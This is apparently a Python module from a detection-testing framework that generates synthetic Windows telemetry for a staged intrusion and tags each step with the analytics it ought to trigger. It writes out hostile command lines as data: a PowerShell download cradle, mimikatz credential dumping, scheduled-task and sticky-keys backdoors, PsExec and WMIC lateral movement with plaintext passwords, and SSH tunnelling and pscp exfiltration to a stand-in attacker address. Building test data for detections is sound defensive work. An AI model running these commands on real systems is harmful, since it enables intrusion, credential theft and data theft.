"""The intrusion of 4 March 2016, step by step, with the analytics each step should trigger.

A phishing document on WS01 starts a shell that sets a Run key and fetches an
implant. The intruder explores WS01, dumps credentials, injects into
explorer.exe, and archives and tunnels data out. On FS01 the intruder creates
and starts a service over RPC and hijacks an unquoted service path. On DC01 the
intruder uses a renamed PsExec, PowerShell remoting and WMIC, and opens a
sticky-keys debugger from the logon screen over RDP. Times are UTC.
"""

from __future__ import annotations

import base64
import datetime as dt

from carhunt.demo.background import LAST, PSEXEC_IDENTITY, run
from carhunt.demo.domain import CMD, Domain, later
from carhunt.demo.world import Host, Process

C2 = "203.0.113.66"
APPDATA = "C:\\Users\\jsmith\\AppData\\Roaming\\Microsoft\\OneDriveUpdate"
IMPLANT = f"{APPDATA}\\odupdate.exe"
IMPLANT_IDENTITY = "intruder implant odupdate"
WOW64 = "C:\\Windows\\SysWOW64"
TOOLS = "C:\\Users\\Public\\Libraries"
IFEO_SETHC = (
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
    "\\sethc.exe"
)
ADMIN_PASSWORD = "Sup3r!Adm1n"

# Fixed ports of the RPC servers on FS01 and DC01 (dynamic range, chosen at their boot).
FS01_SERVICES_PORT = 49158
DC01_WMI_PORT = 49154


def clock(text: str) -> dt.datetime:
    """Return the time of day ``HH:MM:SS.fff`` on the intrusion day, in UTC."""
    return dt.datetime.combine(LAST, dt.time.fromisoformat(text), tzinfo=dt.UTC)


def powershell_encoded(script: str) -> str:
    """Return the -EncodedCommand form of a script: base64 of its UTF-16LE text."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def write_intrusion(domain: Domain) -> None:
    """Write the intrusion's events, each marked with ``intrusion=True``."""
    domain.scenario.intrusion_phase = True
    implant = phishing(domain)
    # The intruder's interactive shell on WS01: most later steps start from it.
    shell = domain.ws01.spawn(
        implant, CMD, "C:\\Windows\\system32\\cmd.exe", clock("09:19:48.233"),
        current_directory=f"{APPDATA}\\",
        hits=("CAR-2013-02-003", "CAR-2014-11-002"),
    )
    recon(domain, shell)
    credential_theft(domain, shell)
    inject(domain, implant)
    persistence(domain, shell)
    schedule_on_fs01(domain, shell)
    collect_and_tunnel(domain, shell)
    fs01_service(domain, shell)
    psexec_dc01(domain, shell)
    remoting_dc01(domain, shell)
    wmic_dc01(domain, shell)
    sticky_keys_dc01(domain, shell)
    at_job_runs(domain)
    domain.scenario.intrusion_phase = False


def phishing(domain: Domain) -> Process:
    """Open a macro document from Outlook; return the implant its macro starts."""
    ws01 = domain.ws01
    outlook = domain.latest["WS01"].apps["outlook"]
    word = ws01.spawn(
        outlook,
        "C:\\Program Files (x86)\\Microsoft Office\\Office15\\WINWORD.EXE",
        '"C:\\Program Files (x86)\\Microsoft Office\\Office15\\WINWORD.EXE" /n "C:\\Users\\'
        "jsmith\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet Files\\Content.Outlook"
        '\\K2J8Q4ZP\\Invoice_0304.doc" /o ""',
        clock("09:14:05.412"),
    )
    ws01.load_image(
        word, clock("09:14:09.077"),
        "C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
        "Microsoft Corporation",
    )

    implant = macro(domain, word)
    ws01.terminate(word, clock("09:16:02.115"))
    return implant


def macro(domain: Domain, word: Process) -> Process:
    """Run the macro: a 32-bit shell sets the Run key and PowerShell fetches the implant."""
    ws01 = domain.ws01
    script = (
        "$d=\"$env:APPDATA\\Microsoft\\OneDriveUpdate\";$f=\"$d\\odupdate.exe\";"
        "(New-Object Net.WebClient).DownloadFile('http://cdn-update.example/odu.exe',$f);"
        "Start-Process $f"
    )
    encoded = powershell_encoded(script)
    run_key = (
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdate "
        f"/t REG_SZ /d {IMPLANT} /f"
    )
    shell = ws01.spawn(
        word, f"{WOW64}\\cmd.exe",
        f'"{WOW64}\\cmd.exe" /c {run_key} & powershell.exe -nop -w hidden -enc {encoded}',
        clock("09:14:31.840"), current_directory="C:\\Users\\jsmith\\Documents\\",
        hits=("CAR-2013-02-003", "CAR-2014-11-002"),
    )
    reg = ws01.spawn(
        shell, f"{WOW64}\\reg.exe", run_key.replace("reg add", "reg  add"),
        clock("09:14:31.902"), hits=("CAR-2013-03-001",),
    )
    ws01.terminate(reg, clock("09:14:31.966"))

    loader = ws01.spawn(
        shell, f"{WOW64}\\WindowsPowerShell\\v1.0\\powershell.exe",
        f"powershell.exe  -nop -w hidden -enc {encoded}", clock("09:14:32.018"),
        hits=("CAR-2014-04-003",),
    )
    ws01.load_image(
        loader, clock("09:14:32.344"),
        "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\clr.dll", "Microsoft Corporation",
    )
    domain.internet(loader, C2, 80, clock("09:14:34.611"))
    implant = ws01.spawn(
        loader, IMPLANT, f'"{IMPLANT}"', clock("09:14:41.305"),
        current_directory=f"{APPDATA}\\", identity=IMPLANT_IDENTITY,
    )
    domain.internet(implant, C2, 443, later(implant.start, domain.scenario, 900, 2_000))
    ws01.terminate(loader, clock("09:14:41.722"))
    ws01.terminate(shell, clock("09:14:41.790"))
    return implant


RECON = (
    ("09:20:03.118", "whoami.exe", "whoami  /all", ("CAR-2016-03-001",)),
    ("09:20:31.570", "HOSTNAME.EXE", "hostname", ("CAR-2016-03-001", "CAR-2013-04-002")),
    ("09:21:02.044", "ipconfig.exe", "ipconfig  /all", ("CAR-2016-03-001", "CAR-2013-04-002")),
    ("09:21:44.391", "net.exe", "net  user jsmith /domain", ("CAR-2016-03-001",)),
    ("09:22:27.806", "net.exe", 'net  group "Domain Admins" /domain', ("CAR-2016-03-001",)),
    ("09:23:05.263", "systeminfo.exe", "systeminfo", ("CAR-2016-03-001",)),
    ("09:23:59.720", "tasklist.exe", "tasklist  /v", ("CAR-2016-03-001",)),
    ("09:24:36.152", "qwinsta.exe", "qwinsta", ("CAR-2016-03-001",)),
    ("09:25:10.487", "sc.exe", "sc  query state= all", ("CAR-2016-03-001",)),
    ("09:26:02.931", "nltest.exe", "nltest  /dclist:corp.example", ()),
    ("09:26:40.379", "PING.EXE", "ping  -n 1 FS01", ("CAR-2013-04-002",)),
    ("09:27:15.608", "NETSTAT.EXE", "netstat  -ano", ()),
)


def recon(domain: Domain, shell: Process) -> None:
    """Explore WS01 and the domain from the implant's shell, one command after another."""
    ws01 = domain.ws01
    for time, name, command_line, hits in RECON:
        started = clock(time)
        image = f"C:\\Windows\\system32\\{name}"
        process = ws01.spawn(shell, image, command_line, started, hits=hits)
        if name == "net.exe":
            helper = ws01.spawn(
                process, "C:\\Windows\\system32\\net1.exe",
                f"C:\\Windows\\system32\\net1 {command_line.removeprefix('net ')}",
                later(started, domain.scenario, 8, 30),
            )
            ws01.terminate(helper, later(started, domain.scenario, 400, 1_500))
        ws01.terminate(process, later(started, domain.scenario, 1_600, 6_000))


def credential_theft(domain: Domain, shell: Process) -> None:
    """Dump logon passwords with a renamed mimikatz; adm-akumar's are cached since runas."""
    started = clock("09:31:20.514")
    dumper = domain.ws01.spawn(
        shell, f"{TOOLS}\\mscache.exe",
        f'{TOOLS}\\mscache.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        started, identity="mimikatz 2.1 x64", hits=("CAR-2013-07-001",),
    )
    for module in ("samlib.dll", "vaultcli.dll"):
        domain.ws01.load_image(
            dumper, later(started, domain.scenario, 80, 400), f"C:\\Windows\\System32\\{module}",
            "Microsoft Windows",
        )
    domain.ws01.terminate(dumper, later(started, domain.scenario, 1_500, 3_000))


def inject(domain: Domain, implant: Process) -> None:
    """Inject a DLL into explorer.exe with LoadLibraryW, then a shellcode thread."""
    ws01 = domain.ws01
    explorer = domain.latest["WS01"].explorer
    ws01.remote_thread(
        implant, explorer, clock("09:38:02.660"), "0x0000000076F86F80",
        "C:\\Windows\\system32\\kernel32.dll", "LoadLibraryW", hits=("CAR-2013-10-002",),
    )
    # A thread that starts in unbacked memory names no module or function.
    ws01.remote_thread(
        implant, explorer, clock("09:38:40.127"), "0x0000000003A10000", "", "",
        near_misses=("CAR-2013-10-002",),
    )
    runner = ws01.spawn(
        implant, "C:\\Windows\\system32\\rundll32.exe",
        f"rundll32.exe {APPDATA}\\odsync.dll,StartW", clock("09:45:11.380"),
        hits=("CAR-2014-03-006",),
    )
    domain.internet(runner, C2, 443, clock("09:45:13.902"))


def persistence(domain: Domain, shell: Process) -> None:
    """Copy the implant to C:\\Windows\\Tasks and run it from a scheduled task as SYSTEM."""
    ws01 = domain.ws01
    task = '"Microsoft\\Windows\\Maintenance\\OneDriveSync"'
    for time, command_line in (
        ("09:52:10.225", f"schtasks  /create /tn {task} /tr C:\\Windows\\Tasks\\odsync.exe "
         "/sc onlogon /ru SYSTEM /f"),
        ("09:52:40.618", f"schtasks  /run /tn {task}"),
    ):
        process = ws01.spawn(
            shell, "C:\\Windows\\system32\\schtasks.exe", command_line, clock(time),
            hits=("CAR-2013-08-001", "CAR-2013-04-002"),
        )
        ws01.terminate(process, later(process.start, domain.scenario, 200, 900))
    engine = ws01.spawn(
        ws01.core["netsvcs"], "C:\\Windows\\system32\\taskeng.exe",
        "taskeng.exe {9E4C2A3B-7F1D-4C8E-A2B5-6D0F1E3C7A94} S-1-5-18:NT AUTHORITY\\System:Service:",
        clock("09:52:41.004"), ws01.system_logon, "System",
        near_misses=("CAR-2013-08-001",),
    )
    copy = ws01.spawn(
        engine, "C:\\Windows\\Tasks\\odsync.exe", "C:\\Windows\\Tasks\\odsync.exe",
        clock("09:52:41.377"), identity=IMPLANT_IDENTITY,
        hits=("CAR-2013-05-002",), near_misses=("CAR-2013-08-001", "CAR-2013-05-004"),
    )
    domain.internet(copy, C2, 443, clock("09:52:43.050"))


def schedule_on_fs01(domain: Domain, shell: Process) -> None:
    """Copy the implant to FS01 and schedule it there with AT."""
    ws01 = domain.ws01
    # cmd.exe copies to \\FS01\C$ itself (no new process), so only the SMB connection shows.
    domain.tcp(
        ws01.core["system"], domain.fs01, domain.fs01.core["system"], 445,
        clock("10:04:12.846"),
    )
    at_job = ws01.spawn(
        shell, "C:\\Windows\\system32\\at.exe", "at  \\\\FS01 13:00 C:\\Windows\\Temp\\wupd.exe",
        clock("10:05:30.171"), hits=("CAR-2013-05-004", "CAR-2013-04-002"),
    )
    ws01.terminate(at_job, clock("10:05:30.933"))


def collect_and_tunnel(domain: Domain, shell: Process) -> None:
    """Archive the finance share, open an SSH tunnel for RDP and copy the archive out."""
    ws01 = domain.ws01
    archive = ws01.spawn(
        shell, "C:\\Program Files\\7-Zip\\7z.exe",
        '"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -pInfected2016 '
        f'{TOOLS}\\q1.zip "\\\\FS01\\Finance\\2016 Q1\\*.xlsx"',
        clock("10:20:14.662"), hits=("CAR-2013-07-005", "CAR-2013-07-001"),
    )
    ws01.terminate(archive, clock("10:20:51.248"))
    tunnel = ws01.spawn(
        shell, f"{TOOLS}\\putty.exe",
        f"{TOOLS}\\putty.exe -ssh -pw Tr0ub4dor! -R 8443:127.0.0.1:3389 tunnel@{C2}",
        clock("10:35:02.090"), identity="PuTTY 0.66", hits=("CAR-2013-07-001",),
    )
    domain.internet(tunnel, C2, 22, clock("10:35:02.734"))
    copy = ws01.spawn(
        shell, f"{TOOLS}\\pscp.exe",
        f"{TOOLS}\\pscp.exe -pw Tr0ub4dor! {TOOLS}\\q1.zip tunnel@{C2}:/srv/drop/",
        clock("10:41:27.515"), identity="PSCP 0.66", hits=("CAR-2013-07-001",),
    )
    domain.internet(copy, C2, 22, clock("10:41:27.980"))
    ws01.terminate(copy, clock("10:43:05.311"))


def rpc_exchange(
    domain: Domain, client: Process, server: Host, server_process: Process, port: int,
    mapper_time: dt.datetime, service_time: dt.datetime, server_hits: tuple[str, ...] = (),
) -> None:
    """Ask the server's endpoint mapper (135), then connect to the RPC server's own port."""
    domain.tcp(client, server, server.core["rpcss"], 135, mapper_time, hits=("CAR-2014-05-001",))
    domain.tcp(
        client, server, server_process, port, service_time, server_lag_ms=2,
        hits=("CAR-2014-05-001",), server_hits=server_hits,
    )


def fs01_service(domain: Domain, shell: Process) -> None:
    """Create and start a service on FS01 remotely; then hijack an unquoted service path."""
    ws01, fs01 = domain.ws01, domain.fs01
    services = fs01.core["services"]
    create = ws01.spawn(
        shell, "C:\\Windows\\system32\\sc.exe",
        'sc  \\\\FS01 create WinUpdSvc binPath= "cmd.exe /c C:\\Windows\\Temp\\wupd.exe" '
        "start= demand",
        clock("10:50:05.118"), near_misses=("CAR-2016-03-001",),
    )
    rpc_exchange(domain, create, fs01, services, FS01_SERVICES_PORT,
                 clock("10:50:05.170"), clock("10:50:05.391"))
    ws01.terminate(create, clock("10:50:05.602"))

    start = ws01.spawn(
        shell, "C:\\Windows\\system32\\sc.exe", "sc  \\\\FS01 start WinUpdSvc",
        clock("10:50:31.240"), near_misses=("CAR-2016-03-001",),
    )
    rpc_exchange(domain, start, fs01, services, FS01_SERVICES_PORT,
                 clock("10:50:31.297"), clock("10:50:31.512"), ("CAR-2014-03-005",))

    service_shell = fs01.spawn(
        services, CMD, "cmd.exe /c C:\\Windows\\Temp\\wupd.exe", clock("10:50:31.957"),
        fs01.system_logon, "System",
        hits=("CAR-2014-03-005", "CAR-2014-05-002", "CAR-2013-09-005", "CAR-2014-11-002",
              "CAR-2013-02-003"),
    )
    payload = fs01.spawn(
        service_shell, "C:\\Windows\\Temp\\wupd.exe", "C:\\Windows\\Temp\\wupd.exe",
        clock("10:50:32.064"), current_directory="C:\\Windows\\system32\\",
        identity=IMPLANT_IDENTITY,
    )
    domain.internet(payload, C2, 443, clock("10:50:33.287"))
    ws01.terminate(start, clock("10:50:31.688"))
    # The payload never answers the service control manager, which ends the shell after 30 s.
    fs01.terminate(service_shell, clock("10:51:01.972"))

    unquoted_path(domain, payload)


def unquoted_path(domain: Domain, payload: Process) -> None:
    """Drop C:\\Program.exe and restart the backup agent, whose service path is unquoted."""
    s = domain.scenario
    fs01 = domain.fs01
    shell = fs01.spawn(
        payload, CMD, "C:\\Windows\\system32\\cmd.exe", clock("11:02:17.430"),
        hits=("CAR-2013-02-003", "CAR-2014-11-002"),
    )
    agent_image = "C:\\Program Files\\Contoso Backup\\Agent\\cbagent.exe"
    agent = domain.service(fs01, agent_image)
    stop = run(domain, shell, "C:\\Windows\\system32\\sc.exe", "sc  stop CBAgent",
               clock("11:03:10.804"), ("CAR-2016-03-001",))
    fs01.terminate(agent, later(stop.start, s, 400, 900))
    run(domain, shell, "C:\\Windows\\system32\\sc.exe", "sc  start CBAgent",
        clock("11:03:40.155"), ("CAR-2016-03-001",))
    hijack = fs01.spawn(
        fs01.core["services"], "C:\\Program.exe", f"{agent_image} -service",
        clock("11:03:40.379"), fs01.system_logon, "System", "C:\\Windows\\system32\\",
        IMPLANT_IDENTITY, hits=("CAR-2014-07-001", "CAR-2013-09-005"),
    )
    domain.internet(hijack, C2, 443, clock("11:03:41.842"))


def psexec_dc01(domain: Domain, shell: Process) -> None:
    """Set a sticky-keys debugger on DC01 with a renamed PsExec (same file as the admin's)."""
    ws01, dc01 = domain.ws01, domain.dc01
    debugger = f'add "{IFEO_SETHC}" /v Debugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f'
    launcher = ws01.spawn(
        shell, f"{TOOLS}\\msupd.exe",
        f"{TOOLS}\\msupd.exe  \\\\DC01 -accepteula -u CORP\\adm-akumar -p {ADMIN_PASSWORD} -s "
        f'cmd.exe /c "reg {debugger}"',
        clock("11:10:01.648"), identity=PSEXEC_IDENTITY,
        hits=("CAR-2013-05-009", "CAR-2014-11-003"),
    )
    domain.tcp(
        ws01.core["system"], dc01, dc01.core["system"], 445, clock("11:10:02.010"),
        near_misses=("CAR-2014-03-005",),
    )
    service = dc01.spawn(
        dc01.core["services"], "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
        clock("11:10:03.582"), dc01.system_logon, "System",
        near_misses=("CAR-2013-09-005", "CAR-2014-03-005"),
    )
    remote_shell = dc01.spawn(
        service, CMD, f'"cmd.exe" /c "reg {debugger}"', clock("11:10:04.117"),
        hits=("CAR-2013-02-003", "CAR-2014-11-002", "CAR-2014-11-003"),
    )
    reg = dc01.spawn(
        remote_shell, "C:\\Windows\\system32\\reg.exe", f"reg  {debugger}", clock("11:10:04.190"),
        hits=("CAR-2013-03-001", "CAR-2014-11-003"),
    )
    for process, time in ((reg, "11:10:04.251"), (remote_shell, "11:10:04.280"),
                          (service, "11:10:05.903")):
        dc01.terminate(process, clock(time))
    ws01.terminate(launcher, clock("11:10:06.114"))


def remoting_dc01(domain: Domain, shell: Process) -> None:
    """Run commands on DC01 through PowerShell remoting (WinRM, port 5985)."""
    ws01, dc01 = domain.ws01, domain.dc01
    client = ws01.spawn(
        shell, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell  -nop -c \"Invoke-Command -ComputerName DC01 -Credential (Import-Clixml "
        f"{TOOLS}\\c.xml) -ScriptBlock {{whoami /groups; powershell -nop -c "
        "Get-ADGroupMember 'Domain Admins'}\"",
        clock("11:25:00.412"), hits=("CAR-2014-04-003",),
    )
    domain.tcp(
        client, dc01, dc01.core["networkservice"], 5985, clock("11:25:01.836"),
        hits=("CAR-2014-11-006",),
    )
    admin = dc01.new_logon("CORP\\adm-akumar", clock("11:25:02.009"), 0)
    host_process = dc01.spawn(
        dc01.core["dcomlaunch"], "C:\\Windows\\System32\\wsmprovhost.exe",
        "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", clock("11:25:02.441"), admin, "High",
        hits=("CAR-2014-11-004",),
    )
    whoami = dc01.spawn(
        host_process, "C:\\Windows\\system32\\whoami.exe",
        '"C:\\Windows\\system32\\whoami.exe" /groups', clock("11:25:03.115"),
        current_directory="C:\\Users\\adm-akumar\\Documents\\", hits=("CAR-2016-03-001",),
    )
    dc01.terminate(whoami, clock("11:25:03.598"))
    inner = dc01.spawn(
        host_process, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c "
        "Get-ADGroupMember 'Domain Admins'",
        clock("11:25:03.790"), current_directory="C:\\Users\\adm-akumar\\Documents\\",
        hits=("CAR-2014-04-003",), near_misses=("CAR-2014-11-004",),
    )
    for process, time in ((inner, "11:25:06.377"), (host_process, "11:25:08.052"),
                          (client, "11:25:08.530")):
        process.host.terminate(process, clock(time))


def wmic_dc01(domain: Domain, shell: Process) -> None:
    """Create a process on DC01 through WMI (WMIC /node), over DCOM."""
    ws01, dc01 = domain.ws01, domain.dc01
    command = "cmd.exe /c net localgroup administrators > C:\\Windows\\Temp\\la.txt"
    client = ws01.spawn(
        shell, "C:\\Windows\\System32\\wbem\\WMIC.exe",
        f"wmic  /node:DC01 /user:CORP\\adm-akumar /password:{ADMIN_PASSWORD} process call "
        f'create "{command}"',
        clock("11:40:11.266"), hits=("CAR-2016-03-002",),
    )
    rpc_exchange(domain, client, dc01, dc01.core["netsvcs"], DC01_WMI_PORT,
                 clock("11:40:11.530"), clock("11:40:11.844"))
    provider = dc01.spawn(
        dc01.core["dcomlaunch"], "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", clock("11:40:12.102"),
        dc01.network_service, "System",
    )
    remote_shell = dc01.spawn(
        provider, CMD, command, clock("11:40:12.655"),
        dc01.new_logon("CORP\\adm-akumar", clock("11:40:12.390"), 0), "High",
        hits=("CAR-2013-02-003", "CAR-2014-11-002"),
    )
    net = dc01.spawn(
        remote_shell, "C:\\Windows\\system32\\net.exe", "net  localgroup administrators",
        clock("11:40:12.731"), hits=("CAR-2016-03-001",),
    )
    helper = dc01.spawn(
        net, "C:\\Windows\\system32\\net1.exe", "C:\\Windows\\system32\\net1  localgroup "
        "administrators", clock("11:40:12.760"),
    )
    for process, time in ((helper, "11:40:12.951"), (net, "11:40:12.980"),
                          (remote_shell, "11:40:13.012"), (client, "11:40:13.405")):
        process.host.terminate(process, clock(time))


def sticky_keys_dc01(domain: Domain, shell: Process) -> None:
    """RDP to DC01 and, at the logon screen, open the sticky-keys debugger: a SYSTEM shell."""
    ws01, dc01 = domain.ws01, domain.dc01
    client = ws01.spawn(
        shell, "C:\\Windows\\system32\\mstsc.exe", '"C:\\Windows\\system32\\mstsc.exe" /v:DC01',
        clock("12:30:04.519"),
    )
    domain.tcp(client, dc01, dc01.core["networkservice"], 3389, clock("12:30:05.266"))
    session_manager = dc01.make_process(
        dc01.core["smss"], dc01.core["smss"].image,
        "\\SystemRoot\\System32\\smss.exe 000000c8 00000084", clock("12:30:07.880"),
        dc01.system_logon, "System",
    )
    winlogon = dc01.spawn(
        session_manager, "C:\\Windows\\System32\\winlogon.exe", "winlogon.exe",
        clock("12:30:08.013"), dc01.system_in_session(3), "System",
    )
    # Windows starts the debugger with the original command line appended.
    backdoor = dc01.spawn(
        winlogon, CMD, "C:\\Windows\\System32\\cmd.exe C:\\Windows\\system32\\sethc.exe 211",
        clock("12:30:41.327"),
        hits=("CAR-2014-11-008", "CAR-2014-11-003", "CAR-2013-02-003", "CAR-2014-11-002"),
    )
    for time, command_line in (
        ("12:31:40.064", "net  user support Winter2016! /add"),
        ("12:32:10.487", 'net  localgroup "Remote Desktop Users" support /add'),
    ):
        net = dc01.spawn(
            backdoor, "C:\\Windows\\system32\\net.exe", command_line, clock(time),
            hits=("CAR-2016-03-001",),
        )
        dc01.terminate(net, later(net.start, domain.scenario, 300, 800))
    dc01.terminate(backdoor, clock("12:33:02.771"))


def at_job_runs(domain: Domain) -> None:
    """Run the AT job on FS01 at 13:00: the task service starts it, not at.exe."""
    fs01 = domain.fs01
    fs01.spawn(
        fs01.core["netsvcs"], "C:\\Windows\\Temp\\wupd.exe", "C:\\Windows\\Temp\\wupd.exe",
        clock("13:00:00.512"), fs01.system_logon, "System", identity=IMPLANT_IDENTITY,
        near_misses=("CAR-2013-05-004",),
    )
